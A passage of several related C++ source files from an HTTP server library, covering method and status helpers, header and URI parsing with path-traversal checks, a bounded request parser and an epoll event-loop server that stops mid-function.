// thread-safe (which is the point of this PR's locking work).
class PooledHttpServer {
 public:
  PooledHttpServer(ServerHandler handler, Executor executor,
                   ParserLimits limits = {})
      : server_(std::move(handler), limits), executor_(std::move(executor)) {}

  // Accepts until the listener is closed (listener.close() from another
  // thread unblocks accept with an error). Returns the number of
  // connections dispatched.
  std::size_t serve(TcpListener& listener);

 private:
  HttpServer server_;
  Executor executor_;
};

}  // namespace w5::net
