#include "net/http.h"

#include "util/strings.h"

namespace w5::net {

std::string_view to_string(Method method) {
  switch (method) {
    case Method::kGet:
      return "GET";
    case Method::kHead:
      return "HEAD";
    case Method::kPost:
      return "POST";
    case Method::kPut:
      return "PUT";
    case Method::kDelete:
      return "DELETE";
    case Method::kOptions:
      return "OPTIONS";
    case Method::kPatch:
      return "PATCH";
  }
  return "GET";
}

std::optional<Method> method_from_string(std::string_view s) {
  if (s == "GET") return Method::kGet;
  if (s == "HEAD") return Method::kHead;
  if (s == "POST") return Method::kPost;
  if (s == "PUT") return Method::kPut;
  if (s == "DELETE") return Method::kDelete;
  if (s == "OPTIONS") return Method::kOptions;
  if (s == "PATCH") return Method::kPatch;
  return std::nullopt;
}

std::string_view status_reason(int status) {
  switch (status) {
    case 200:
      return "OK";
    case 201:
      return "Created";
    case 204:
      return "No Content";
    case 302:
      return "Found";
    case 304:
      return "Not Modified";
    case 400:
      return "Bad Request";
    case 401:
      return "Unauthorized";
    case 403:
      return "Forbidden";
    case 404:
      return "Not Found";
    case 405:
      return "Method Not Allowed";
    case 408:
      return "Request Timeout";
    case 409:
      return "Conflict";
    case 413:
      return "Content Too Large";
    case 429:
      return "Too Many Requests";
    case 431:
      return "Request Header Fields Too Large";
    case 500:
      return "Internal Server Error";
    case 503:
      return "Service Unavailable";
    case 504:
      return "Gateway Timeout";
    default:
      return "Unknown";
  }
}

void Headers::add(std::string name, std::string value) {
  // A handful of headers is the norm (Content-Type, Set-Cookie, trace
  // id); one up-front block spares the growth reallocs that would
  // otherwise land on the response hot path.
  if (entries_.capacity() == 0) entries_.reserve(4);
  entries_.emplace_back(std::move(name), std::move(value));
}

void Headers::set(std::string name, std::string value) {
  remove(name);
  add(std::move(name), std::move(value));
}

void Headers::remove(std::string_view name) {
  std::erase_if(entries_, [&](const auto& entry) {
    return util::iequals(entry.first, name);
  });
}

std::optional<std::string> Headers::get(std::string_view name) const {
  for (const auto& [key, value] : entries_)
    if (util::iequals(key, name)) return value;
  return std::nullopt;
}

std::vector<std::string> Headers::get_all(std::string_view name) const {
  std::vector<std::string> out;
  for (const auto& [key, value] : entries_)
    if (util::iequals(key, name)) out.push_back(value);
  return out;
}

bool Headers::contains(std::string_view name) const {
  return get(name).has_value();
}

namespace {

void append_headers(const Headers& headers, std::string& out) {
  for (const auto& [name, value] : headers.entries()) {
    out += name;
    out += ": ";
    out += value;
    out += "\r\n";
  }
}

}  // namespace

std::string HttpRequest::to_wire() const {
  std::string out;
  out += to_string(method);
  out.push_back(' ');
  out += target;
  out += " HTTP/1.1\r\n";
  Headers copy = headers;
  if (!copy.contains("Host")) copy.set("Host", "w5.org");
  if (!body.empty() || method == Method::kPost || method == Method::kPut ||
      method == Method::kPatch) {
    copy.set("Content-Length", std::to_string(body.size()));
  }
  append_headers(copy, out);
  out += "\r\n";
  out += body;
  return out;
}

std::string HttpResponse::to_wire_head() const {
  std::string out = "HTTP/1.1 " + std::to_string(status) + " " +
                    std::string(status_reason(status)) + "\r\n";
  Headers copy = headers;
  copy.set("Content-Length", std::to_string(body.size()));
  append_headers(copy, out);
  out += "\r\n";
  return out;
}

std::string HttpResponse::to_wire() const {
  std::string out = to_wire_head();
  out += body;
  return out;
}

HttpResponse HttpResponse::text(int status, std::string body) {
  HttpResponse response;
  response.status = status;
  response.headers.set("Content-Type", "text/plain; charset=utf-8");
  response.body = std::move(body);
  return response;
}

HttpResponse HttpResponse::html(int status, std::string body) {
  HttpResponse response;
  response.status = status;
  response.headers.set("Content-Type", "text/html; charset=utf-8");
  response.body = std::move(body);
  return response;
}

HttpResponse HttpResponse::json(int status, std::string body) {
  HttpResponse response;
  response.status = status;
  response.headers.set("Content-Type", "application/json");
  response.body = std::move(body);
  return response;
}

HttpResponse HttpResponse::redirect(std::string location) {
  HttpResponse response;
  response.status = 302;
  response.headers.set("Location", std::move(location));
  return response;
}

}  // namespace w5::net
