#include "net/uri.h"

#include "util/strings.h"

namespace w5::net {

namespace {

bool is_unreserved(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
         (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' ||
         c == '~';
}

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

std::string percent_encode(std::string_view raw) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  out.reserve(raw.size());
  for (char c : raw) {
    if (is_unreserved(c)) {
      out.push_back(c);
    } else {
      const auto b = static_cast<unsigned char>(c);
      out.push_back('%');
      out.push_back(kHex[b >> 4]);
      out.push_back(kHex[b & 0xf]);
    }
  }
  return out;
}

std::optional<std::string> percent_decode(std::string_view encoded,
                                          bool plus_as_space) {
  std::string out;
  out.reserve(encoded.size());
  for (std::size_t i = 0; i < encoded.size(); ++i) {
    const char c = encoded[i];
    if (c == '%') {
      if (i + 2 >= encoded.size()) return std::nullopt;
      const int hi = hex_value(encoded[i + 1]);
      const int lo = hex_value(encoded[i + 2]);
      if (hi < 0 || lo < 0) return std::nullopt;
      out.push_back(static_cast<char>((hi << 4) | lo));
      i += 2;
    } else if (c == '+' && plus_as_space) {
      out.push_back(' ');
    } else {
      out.push_back(c);
    }
  }
  return out;
}

std::optional<QueryParams> parse_query(std::string_view query) {
  QueryParams params;
  if (query.empty()) return params;
  for (const auto& pair : util::split(query, '&')) {
    if (pair.empty()) continue;
    const std::size_t eq = pair.find('=');
    const std::string_view name =
        eq == std::string::npos ? std::string_view(pair)
                                : std::string_view(pair).substr(0, eq);
    const std::string_view value =
        eq == std::string::npos ? std::string_view()
                                : std::string_view(pair).substr(eq + 1);
    auto decoded_name = percent_decode(name, /*plus_as_space=*/true);
    auto decoded_value = percent_decode(value, /*plus_as_space=*/true);
    if (!decoded_name || !decoded_value) return std::nullopt;
    params.emplace_back(std::move(*decoded_name), std::move(*decoded_value));
  }
  return params;
}

std::optional<std::string> query_get(const QueryParams& params,
                                     std::string_view name) {
  for (const auto& [key, value] : params)
    if (key == name) return value;
  return std::nullopt;
}

std::string encode_query(const QueryParams& params) {
  std::string out;
  for (const auto& [key, value] : params) {
    if (!out.empty()) out.push_back('&');
    out += percent_encode(key);
    out.push_back('=');
    out += percent_encode(value);
  }
  return out;
}

std::optional<RequestTarget> parse_request_target(std::string_view target) {
  if (target.empty() || target[0] != '/') return std::nullopt;
  RequestTarget out;

  const std::size_t qmark = target.find('?');
  const std::string_view raw_path =
      qmark == std::string_view::npos ? target : target.substr(0, qmark);
  out.raw_query =
      qmark == std::string_view::npos ? "" : std::string(target.substr(qmark + 1));

  auto decoded = percent_decode(raw_path);
  if (!decoded || decoded->find('\0') != std::string::npos)
    return std::nullopt;

  // Resolve dot segments; refuse attempts to climb above root.
  for (const auto& segment : util::split(*decoded, '/')) {
    if (segment.empty() || segment == ".") continue;
    if (segment == "..") {
      if (out.segments.empty()) return std::nullopt;
      out.segments.pop_back();
      continue;
    }
    out.segments.push_back(segment);
  }
  out.path = "/" + util::join(out.segments, "/");

  auto query = parse_query(out.raw_query);
  if (!query) return std::nullopt;
  out.query = std::move(*query);
  return out;
}

}  // namespace w5::net
