// Incremental HTTP/1.1 parsers.
//
// The parser is the perimeter's first line of defense: it consumes
// attacker-controlled bytes, so it is strict (CRLF line endings, bounded
// line/header/body sizes, no header folding) and incremental (feed() any
// byte-chunking; state survives partial input). Chunked transfer encoding
// is deliberately unsupported — the W5 gateway buffers whole messages to
// label them, and rejecting T-E: chunked removes request-smuggling
// ambiguity.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "net/http.h"
#include "util/result.h"

namespace w5::net {

struct ParserLimits {
  std::size_t max_line_bytes = 8 * 1024;
  std::size_t max_header_count = 100;
  // Total header-block bytes (start line + all header lines, CRLFs
  // included). One client must not grow server memory unboundedly by
  // streaming headers; overflow fails with "http.headers_too_large",
  // which the server maps to 431 (body overflow stays "http.too_large"
  // → 413).
  std::size_t max_headers_bytes = 64 * 1024;
  std::size_t max_body_bytes = 8 * 1024 * 1024;
};

enum class ParseState : std::uint8_t {
  kStartLine,
  kHeaders,
  kBody,
  kComplete,
  kError,
};

namespace detail {

// Common header/body machinery shared by both parsers.
class MessageParser {
 public:
  explicit MessageParser(ParserLimits limits) : limits_(limits) {}

  ParseState state() const noexcept { return state_; }
  const util::Error& error() const noexcept { return error_; }

  // Feeds bytes; returns the number consumed (always all, unless the
  // message completed or failed mid-buffer).
  std::size_t feed(std::string_view data);

  // Headers parsed so far — valid in every state, including kError and a
  // partial header block. The serving paths use this to echo a validated
  // X-W5-Trace id on early-exit responses (408/413/431) whose request
  // never reaches the handler (DESIGN.md §16).
  const Headers& parsed_headers() const noexcept { return headers_storage_; }

 protected:
  // Subclass parses its start line; returns false to enter kError (after
  // calling fail()).
  virtual bool on_start_line(std::string_view line) = 0;
  virtual ~MessageParser() = default;

  void fail(std::string code, std::string detail);
  Headers& headers() noexcept { return headers_storage_; }
  std::string take_body() { return std::move(body_); }
  Headers take_headers() { return std::move(headers_storage_); }
  virtual void on_complete() = 0;

 private:
  bool consume_line(std::string_view& data, std::string& line_out);
  void finish_headers();

  ParserLimits limits_;
  ParseState state_ = ParseState::kStartLine;
  util::Error error_;
  std::string partial_line_;
  Headers headers_storage_;
  std::size_t header_count_ = 0;
  std::size_t header_bytes_ = 0;  // start line + header lines, with CRLFs
  std::string body_;
  std::size_t body_expected_ = 0;
};

}  // namespace detail

class RequestParser final : public detail::MessageParser {
 public:
  explicit RequestParser(ParserLimits limits = {});

  // True once a complete, valid request is available via take().
  bool complete() const noexcept { return state() == ParseState::kComplete; }
  bool failed() const noexcept { return state() == ParseState::kError; }

  HttpRequest take();

  // Resets for the next request on a keep-alive connection.
  void reset();

 private:
  bool on_start_line(std::string_view line) override;
  void on_complete() override;

  ParserLimits limits_;
  HttpRequest request_;
};

class ResponseParser final : public detail::MessageParser {
 public:
  explicit ResponseParser(ParserLimits limits = {});

  bool complete() const noexcept { return state() == ParseState::kComplete; }
  bool failed() const noexcept { return state() == ParseState::kError; }

  HttpResponse take();
  void reset();

 private:
  bool on_start_line(std::string_view line) override;
  void on_complete() override;

  ParserLimits limits_;
  HttpResponse response_;
};

}  // namespace w5::net
