#include "net/event_loop_server.h"

#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>

#include "net/tracing.h"
#include "util/log.h"
#include "util/metrics.h"
#include "util/strings.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::net {

namespace {

// Deadlines reap real stalled sockets, so the reactor reads the wall
// clock directly (same rationale as http_server.cpp).
util::Micros wall_now() {
  static const util::WallClock clock;
  return clock.now();
}

void count(std::atomic<std::uint64_t>* counter) {
  if (counter != nullptr) counter->fetch_add(1, std::memory_order_relaxed);
}

void gauge_add(std::atomic<std::int64_t>* gauge, std::int64_t delta) {
  if (gauge != nullptr) gauge->fetch_add(delta, std::memory_order_relaxed);
}

// epoll user-data keys below kFirstConnId name loop-level fds.
constexpr std::uint64_t kListenerKey = 0;
constexpr std::uint64_t kMailboxKey = 1;
constexpr std::uint64_t kFirstConnId = 2;

}  // namespace

// Cross-thread handoff into a loop: new connections from the accepting
// loop, finished responses from pool workers. Pool jobs hold the mailbox
// by shared_ptr, so a completion that outlives serve() posts into a
// closed mailbox and is dropped — never into freed memory.
struct EventLoopHttpServer::Mailbox {
  struct Item {
    bool is_completion = false;
    std::uint64_t conn_id = 0;
    HttpResponse response;            // is_completion
    std::unique_ptr<Connection> io;   // !is_completion (a new connection)
    int fd = -1;
    // Stage attribution (0 when off): the worker's handler stamps, and
    // the post time for the event-loop lag histogram.
    util::Micros handler_start = 0;
    util::Micros handler_done = 0;
    util::Micros posted_at = 0;
  };

  ~Mailbox() {
    if (event_fd >= 0) ::close(event_fd);
  }

  void post(Item item) {
    bool wake = false;
    {
      const util::MutexLock lock(mutex);
      if (open) {
        // Wakeup coalescing: only the post that makes the queue
        // non-empty writes the eventfd; items posted while a drain is
        // already owed piggyback on that wakeup.
        wake = items.empty();
        items.push_back(std::move(item));
      }
    }
    if (wake) {
      const std::uint64_t one = 1;
      (void)::write(event_fd, &one, sizeof(one));
    }
  }

  int event_fd = -1;
  util::Mutex mutex{util::lockrank::kEventLoopMailbox, "Mailbox::mutex"};
  bool open W5_GUARDED_BY(mutex) = true;
  std::vector<Item> items W5_GUARDED_BY(mutex);
};

// Per-connection state machine. Owned by exactly one loop; every field
// is touched only from that loop's thread (the thread-ownership rule).
struct EventLoopHttpServer::Conn {
  enum class State : std::uint8_t {
    kIdle,        // keep-alive, no request bytes yet
    kReading,     // headers or body arriving
    kDispatched,  // handler running on the executor
    kWriting,     // response draining to the socket
  };

  explicit Conn(ParserLimits limits) : parser(limits) {}

  std::uint64_t id = 0;
  int fd = -1;  // raw socket fd (epoll registration); I/O goes via `io`
  std::unique_ptr<Connection> io;
  RequestParser parser;
  State state = State::kIdle;
  bool read_ready = true;   // ET memo: an edge fired since the last EAGAIN
  bool got_bytes = false;   // bytes seen since entering idle (408 vs silent)
  bool keep_alive = true;
  bool close_after_write = false;
  bool count_handled = false;
  bool in_body_phase = false;  // body deadline armed (restarts the clock)
  bool counted_idle = false;   // holds one unit of the idle gauge
  // One armed deadline at a time; stale wheel entries are detected by
  // deadline mismatch (re-arm moves the deadline, disarm clears it).
  bool timer_armed = false;
  util::Micros timer_deadline = 0;
  // Pipelined surplus: bytes read past a request boundary, re-fed after
  // the response for the request ahead of them finishes writing.
  std::string inbuf;
  std::size_t inbuf_off = 0;
  // In-flight response, head and body kept separate for writev.
  std::string out_head;
  std::string out_body;
  std::size_t out_off = 0;
  // Stage attribution stamps (DESIGN.md §16), set only when the server
  // has an on_stage sink. All absolute wall micros; 0 = not reached.
  util::Micros t_request_start = 0;  // first byte of the current request
  util::Micros t_parse_done = 0;     // request fully parsed
  util::Micros t_handler_start = 0;  // handler began (worker stamp)
  util::Micros t_handler_done = 0;   // response back on the loop
  std::string trace_id;              // response X-W5-Trace echo, may be ""
};

struct EventLoopHttpServer::Loop {
  std::size_t index = 0;
  int epoll_fd = -1;
  TimerWheel wheel;
  std::shared_ptr<Mailbox> mailbox;
  std::unordered_map<std::uint64_t, std::unique_ptr<Conn>> conns;
  // Connections with a pipelined continuation owed (surplus bytes or a
  // pending read edge after a response finished). Drained iteratively by
  // run_loop so a deep pipeline never nests a frame per request.
  std::vector<std::uint64_t> ready;
  std::thread thread;  // loops 1..n-1; loop 0 runs on the serve() caller
  std::atomic<bool> stop{false};

  Loop(util::Micros granularity, std::size_t slots)
      : wheel(granularity, slots) {}
  ~Loop() {
    if (epoll_fd >= 0) ::close(epoll_fd);
  }
};

EventLoopHttpServer::EventLoopHttpServer(
    ServerHandler handler, BoundedExecutor executor, ParserLimits limits,
    ServerOptions options, EventLoopOptions loop_options, ServerStats* stats,
    ConnStats* conn_stats)
    : handler_(std::move(handler)),
      executor_(std::move(executor)),
      limits_(limits),
      options_(options),
      loop_options_(loop_options),
      stats_(stats),
      conn_stats_(conn_stats),
      stage_enabled_(util::kTelemetryEnabled &&
                     static_cast<bool>(loop_options_.telemetry.on_stage)),
      next_conn_id_(kFirstConnId) {}

LoopStats* EventLoopHttpServer::loop_stats(const Loop& loop) const {
  auto* all = loop_options_.telemetry.loop_stats;
  if (all == nullptr || loop.index >= all->size()) return nullptr;
  return &(*all)[loop.index];
}

EventLoopHttpServer::~EventLoopHttpServer() = default;

std::size_t EventLoopHttpServer::serve(TcpListener& listener) {
  listener_ = &listener;
  accepted_.store(0, std::memory_order_relaxed);
  next_conn_id_ = kFirstConnId;
  next_loop_ = 0;

  if (!listener.set_nonblocking().ok() || listener.fd() < 0) {
    listener_ = nullptr;
    return 0;
  }

  const std::size_t n_loops = std::max<std::size_t>(1, loop_options_.io_threads);
  loops_.clear();
  loops_.reserve(n_loops);
  for (std::size_t i = 0; i < n_loops; ++i) {
    auto loop = std::make_unique<Loop>(loop_options_.timer_granularity_micros,
                                       loop_options_.timer_slots);
    loop->index = i;
    loop->epoll_fd = ::epoll_create1(EPOLL_CLOEXEC);
    loop->mailbox = std::make_shared<Mailbox>();
    loop->mailbox->event_fd = ::eventfd(0, EFD_NONBLOCK | EFD_CLOEXEC);
    if (loop->epoll_fd < 0 || loop->mailbox->event_fd < 0) {
      util::log_error("event_loop: epoll/eventfd setup failed");
      loops_.clear();
      listener_ = nullptr;
      return 0;
    }
    epoll_event ev{};
    ev.events = EPOLLIN;  // level-triggered: re-notified until drained
    ev.data.u64 = kMailboxKey;
    (void)::epoll_ctl(loop->epoll_fd, EPOLL_CTL_ADD, loop->mailbox->event_fd,
                      &ev);
    loops_.push_back(std::move(loop));
  }

  // Loop 0 owns the listener (level-triggered: accept errors can return
  // to epoll without losing an edge). Registered under the listener's
  // close lock: a concurrent listener.close() either runs first (we skip
  // the registration and run_loop exits on the fd<0 check) or waits, so
  // the fd cannot be closed and reused mid-registration.
  (void)listener.with_fd([this](int fd) {
    epoll_event ev{};
    ev.events = EPOLLIN;
    ev.data.u64 = kListenerKey;
    (void)::epoll_ctl(loops_[0]->epoll_fd, EPOLL_CTL_ADD, fd, &ev);
    return util::ok_status();
  });

  for (std::size_t i = 1; i < loops_.size(); ++i) {
    Loop* loop = loops_[i].get();
    loop->thread = std::thread([this, loop] { run_loop(*loop); });
  }
  run_loop(*loops_[0]);
  request_stop();
  for (std::size_t i = 1; i < loops_.size(); ++i) loops_[i]->thread.join();

  // Teardown: every loop is parked, so the serve thread may touch all of
  // them. Close mailboxes first so straggler completions are dropped.
  for (auto& loop : loops_) {
    {
      const util::MutexLock lock(loop->mailbox->mutex);
      loop->mailbox->open = false;
      loop->mailbox->items.clear();  // undelivered conns close via dtor
    }
    while (!loop->conns.empty()) destroy(*loop, *loop->conns.begin()->second);
  }
  const std::size_t total =
      static_cast<std::size_t>(accepted_.load(std::memory_order_relaxed));
  loops_.clear();
  listener_ = nullptr;
  return total;
}

void EventLoopHttpServer::run_loop(Loop& loop) {
  constexpr int kMaxEvents = 128;
  epoll_event events[kMaxEvents];
  const bool owns_listener = loop.index == 0;
  LoopStats* lstats = loop_stats(loop);
  util::Histogram* drift = loop_options_.telemetry.timer_drift_micros;
  util::Histogram* batch = loop_options_.telemetry.epoll_batch;
  while (!loop.stop.load(std::memory_order_acquire)) {
    util::Micros now = wall_now();
    loop.wheel.expire(now, [this, &loop, lstats, drift,
                            now](std::uint64_t key, util::Micros deadline) {
      // Timer-wheel drift: how late past its deadline an entry fired
      // (slot width + epoll latency; a stall here means a hogged loop).
      if (drift != nullptr)
        drift->observe(now > deadline ? now - deadline : 0);
      if (lstats != nullptr)
        lstats->timer_fires.fetch_add(1, std::memory_order_relaxed);
      on_timer(loop, key, deadline);
    });
    // listener.close() from another thread races the epoll registration;
    // the fd check (under a capped wait below) is the reliable signal.
    if (owns_listener && listener_->fd() < 0) break;

    now = wall_now();
    const util::Micros next = loop.wheel.next_deadline(now);
    int timeout_ms = -1;
    if (next >= 0) {
      // +1ms: land past the slot boundary instead of just short of it.
      timeout_ms = static_cast<int>(
          std::min<util::Micros>((std::max<util::Micros>(next - now, 0)) / 1000,
                                 60'000) +
          1);
    }
    if (owns_listener && (timeout_ms < 0 || timeout_ms > 100)) timeout_ms = 100;

    const int n = ::epoll_wait(loop.epoll_fd, events, kMaxEvents, timeout_ms);
    if (n < 0) {
      if (errno == EINTR) continue;
      util::log_error("event_loop: epoll_wait failed");
      break;
    }
    if (n > 0) {
      // Wake/batch shape: many events per wakeup = the loop is saturated
      // (healthy under load); 1-per-wakeup at high rates = syscall-bound.
      if (lstats != nullptr) {
        lstats->epoll_wakeups.fetch_add(1, std::memory_order_relaxed);
        lstats->epoll_events.fetch_add(static_cast<std::uint64_t>(n),
                                       std::memory_order_relaxed);
      }
      if (batch != nullptr) batch->observe(n);
    }
    for (int i = 0; i < n; ++i) {
      const std::uint64_t key = events[i].data.u64;
      if (key == kListenerKey) {
        accept_ready(loop);
      } else if (key == kMailboxKey) {
        drain_mailbox(loop);
      } else {
        handle_event(loop, key, events[i].events);
      }
    }
    // Deferred pipelined continuations (pump_write). Draining may defer
    // more — loop until quiet so nothing waits on the next epoll wakeup.
    while (!loop.ready.empty()) {
      std::vector<std::uint64_t> ready;
      ready.swap(loop.ready);
      for (const std::uint64_t id : ready) {
        auto it = loop.conns.find(id);
        if (it == loop.conns.end()) continue;  // died later in the batch
        Conn& conn = *it->second;
        const bool pending =
            conn.inbuf_off < conn.inbuf.size() || conn.read_ready;
        if (pending && (conn.state == Conn::State::kIdle ||
                        conn.state == Conn::State::kReading))
          pump_read(loop, conn);
      }
    }
  }
}

void EventLoopHttpServer::request_stop() {
  for (auto& loop : loops_) {
    loop->stop.store(true, std::memory_order_release);
    const std::uint64_t one = 1;
    (void)::write(loop->mailbox->event_fd, &one, sizeof(one));
  }
}

void EventLoopHttpServer::accept_ready(Loop& loop) {
  while (true) {
    auto accepted = listener_->accept();
    if (!accepted.ok()) {
      // would_block: drained the backlog. Closed or transient error:
      // return to epoll — level-triggered registration re-fires if more
      // connections are pending, and the fd<0 check handles shutdown.
      return;
    }
    std::unique_ptr<Connection> io = std::move(accepted).value();
    // The raw fd (for epoll) is grabbed before decoration; all I/O goes
    // through the possibly-decorated Connection.
    auto* tcp = static_cast<TcpConnection*>(io.get());
    const int fd = tcp->fd();
    if (!tcp->set_nonblocking().ok()) {
      io->close();
      continue;
    }
    if (loop_options_.decorate) io = loop_options_.decorate(std::move(io));
    accepted_.fetch_add(1, std::memory_order_relaxed);
    const std::uint64_t id = next_conn_id_++;
    Loop& target = *loops_[next_loop_];
    next_loop_ = (next_loop_ + 1) % loops_.size();
    if (&target == &loop) {
      add_conn(loop, std::move(io), fd, id);
    } else {
      Mailbox::Item item;
      item.io = std::move(io);
      item.fd = fd;
      item.conn_id = id;
      if (loop_options_.telemetry.loop_lag_micros != nullptr)
        item.posted_at = wall_now();
      target.mailbox->post(std::move(item));
    }
  }
}

void EventLoopHttpServer::add_conn(Loop& loop, std::unique_ptr<Connection> io,
                                   int fd, std::uint64_t id) {
  count(conn_stats_ != nullptr ? &conn_stats_->accepted_total : nullptr);
  gauge_add(conn_stats_ != nullptr ? &conn_stats_->open : nullptr, 1);

  auto owned = std::make_unique<Conn>(limits_);
  Conn& conn = *owned;
  conn.id = id;
  conn.fd = fd;
  conn.io = std::move(io);

  epoll_event ev{};
  ev.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET;
  ev.data.u64 = id;
  if (::epoll_ctl(loop.epoll_fd, EPOLL_CTL_ADD, fd, &ev) != 0) {
    conn.io->close();
    gauge_add(conn_stats_ != nullptr ? &conn_stats_->open : nullptr, -1);
    return;
  }
  loop.conns.emplace(id, std::move(owned));
  if (LoopStats* lstats = loop_stats(loop); lstats != nullptr)
    lstats->connections.fetch_add(1, std::memory_order_relaxed);
  enter_idle(loop, conn);
  // Bytes may have arrived before registration; with ET that edge is
  // already behind us, so probe the socket once (read_ready starts true).
  pump_read(loop, conn);
}

void EventLoopHttpServer::drain_mailbox(Loop& loop) {
  std::uint64_t drained = 0;
  (void)::read(loop.mailbox->event_fd, &drained, sizeof(drained));
  std::vector<Mailbox::Item> items;
  {
    const util::MutexLock lock(loop.mailbox->mutex);
    items.swap(loop.mailbox->items);
  }
  LoopStats* lstats = loop_stats(loop);
  if (lstats != nullptr && !items.empty())
    lstats->mailbox_items.fetch_add(items.size(), std::memory_order_relaxed);
  // Event-loop lag: how long items sat in the mailbox before this drain
  // ran — the queued-stage delay a cross-thread completion experiences.
  if (util::Histogram* lag = loop_options_.telemetry.loop_lag_micros;
      lag != nullptr && !items.empty()) {
    const util::Micros now = wall_now();
    for (const auto& item : items)
      if (item.posted_at > 0)
        lag->observe(now > item.posted_at ? now - item.posted_at : 0);
  }
  for (auto& item : items) {
    if (item.is_completion) {
      complete(loop, item.conn_id, std::move(item.response),
               item.handler_start, item.handler_done);
    } else {
      add_conn(loop, std::move(item.io), item.fd, item.conn_id);
    }
  }
}

void EventLoopHttpServer::complete(Loop& loop, std::uint64_t id,
                                   HttpResponse response,
                                   util::Micros handler_start,
                                   util::Micros handler_done) {
  auto it = loop.conns.find(id);
  // The connection may have died (reset, write timeout) while the
  // handler ran; its completion is dropped harmlessly.
  if (it == loop.conns.end()) return;
  Conn& conn = *it->second;
  if (conn.state != Conn::State::kDispatched) return;
  conn.t_handler_start = handler_start;
  conn.t_handler_done = handler_done;
  start_write(loop, conn, std::move(response),
              /*close_after=*/false, /*count_handled=*/true);
}

void EventLoopHttpServer::handle_event(Loop& loop, std::uint64_t id,
                                       std::uint32_t events) {
  auto it = loop.conns.find(id);
  if (it == loop.conns.end()) return;

  if ((events & (EPOLLIN | EPOLLRDHUP)) != 0) {
    Conn& conn = *it->second;
    conn.read_ready = true;
    if (conn.state == Conn::State::kIdle ||
        conn.state == Conn::State::kReading) {
      pump_read(loop, conn);
      it = loop.conns.find(id);  // pump may have destroyed the connection
      if (it == loop.conns.end()) return;
    }
  }
  if ((events & EPOLLOUT) != 0) {
    Conn& conn = *it->second;
    if (conn.state == Conn::State::kWriting) {
      pump_write(loop, conn);
      it = loop.conns.find(id);
      if (it == loop.conns.end()) return;
    }
  }
  if ((events & (EPOLLHUP | EPOLLERR)) != 0) {
    count(conn_stats_ != nullptr ? &conn_stats_->reset_total : nullptr);
    destroy(loop, *it->second);
  }
}

void EventLoopHttpServer::pump_read(Loop& loop, Conn& conn) {
  char buf[16 * 1024];
  const std::size_t chunk =
      std::min(sizeof(buf), std::max<std::size_t>(loop_options_.read_chunk_bytes, 1));
  // feed() can destroy the connection synchronously (parse error whose
  // rejection writes out in full, shed ditto); every feed is followed by
  // an existence check before `conn` is touched again.
  const std::uint64_t id = conn.id;
  while (conn.state == Conn::State::kIdle ||
         conn.state == Conn::State::kReading) {
    // Buffered pipelined bytes first — they precede anything in the socket.
    if (conn.inbuf_off < conn.inbuf.size()) {
      const std::string_view pending(conn.inbuf.data() + conn.inbuf_off,
                                     conn.inbuf.size() - conn.inbuf_off);
      const std::size_t consumed = feed(loop, conn, pending);
      if (loop.conns.find(id) == loop.conns.end()) return;
      conn.inbuf_off += consumed;
      if (conn.inbuf_off >= conn.inbuf.size()) {
        conn.inbuf.clear();
        conn.inbuf_off = 0;
      }
      continue;  // the loop condition re-checks the (possibly new) state
    }
    if (!conn.read_ready) return;  // ET: wait for the next edge
    auto n = conn.io->read(buf, chunk);
    if (!n.ok()) {
      const std::string& code = n.error().code;
      if (code == "net.would_block") {
        conn.read_ready = false;
        return;
      }
      if (code == "net.timeout") {
        // An injected drop (FaultyConnection): nothing further arrives on
        // this connection — same terminal-timeout semantics as the
        // blocking path.
        count(stats_ != nullptr ? &stats_->timeouts_total : nullptr);
        reap(loop, conn, conn.got_bytes);
        return;
      }
      count(conn_stats_ != nullptr ? &conn_stats_->reset_total : nullptr);
      destroy(loop, conn);
      return;
    }
    if (n.value() == 0) {  // EOF
      if (conn.state == Conn::State::kReading) {
        // Mid-request close: tell the client why (blocking-path parity),
        // best-effort — the peer may only be half-closed.
        HttpResponse bad = HttpResponse::text(400, "truncated request\n");
        bad.headers.set("Connection", "close");
        stamp_trace_echo(bad, conn.parser.parsed_headers());
        const std::string wire = bad.to_wire();
        (void)conn.io->write_some(wire);
      }
      destroy(loop, conn);
      return;
    }
    const std::size_t consumed =
        feed(loop, conn, std::string_view(buf, n.value()));
    if (loop.conns.find(id) == loop.conns.end()) return;
    if (consumed < n.value()) {
      // Request boundary mid-buffer: stash the pipelined surplus (inbuf
      // is empty here — the socket is only read once it has drained).
      conn.inbuf.assign(buf + consumed, n.value() - consumed);
      conn.inbuf_off = 0;
    }
  }
}

std::size_t EventLoopHttpServer::feed(Loop& loop, Conn& conn,
                                      std::string_view data) {
  if (conn.state == Conn::State::kIdle) {
    leave_idle(conn);
    conn.state = Conn::State::kReading;
    conn.got_bytes = true;
    if (stage_enabled_) conn.t_request_start = wall_now();
    // The header deadline keeps running from idle entry (request start) —
    // same clock the blocking path uses.
  }
  const std::size_t consumed = conn.parser.feed(data);
  if (conn.parser.failed()) {
    // 431: header block over budget; 413: declared body over budget;
    // anything else is a plain parse failure (400).
    int status = 400;
    if (conn.parser.error().code == "http.too_large") {
      status = 413;
      count(stats_ != nullptr ? &stats_->rejected_413_total : nullptr);
    } else if (conn.parser.error().code == "http.headers_too_large") {
      status = 431;
      count(stats_ != nullptr ? &stats_->rejected_431_total : nullptr);
    }
    HttpResponse rejection =
        HttpResponse::text(status, conn.parser.error().code + "\n");
    // Early-exit parity with the pooled path: echo a validated inbound
    // X-W5-Trace so the caller's trace shows where the hop failed.
    stamp_trace_echo(rejection, conn.parser.parsed_headers());
    disarm_timer(conn);
    start_write(loop, conn, std::move(rejection), /*close_after=*/true,
                /*count_handled=*/false);
    return consumed;
  }
  if (!conn.in_body_phase && conn.parser.state() == ParseState::kBody) {
    // Body phase restarts the clock (blocking-path parity).
    conn.in_body_phase = true;
    disarm_timer(conn);
    if (options_.body_deadline_micros > 0)
      arm_timer(loop, conn, options_.body_deadline_micros);
  }
